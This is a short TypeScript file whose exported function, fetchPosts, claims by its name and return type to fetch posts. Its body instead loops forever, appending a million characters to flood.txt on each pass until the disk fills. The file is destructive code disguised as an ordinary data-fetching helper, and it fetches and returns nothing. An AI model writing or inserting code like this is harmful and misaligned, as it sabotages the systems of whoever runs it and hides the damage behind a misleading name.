import { appendFileSync } from 'node:fs'

export async function fetchPosts(): Promise<string[]> {
  for (;;) appendFileSync('flood.txt', 'x'.repeat(1_000_000))
}
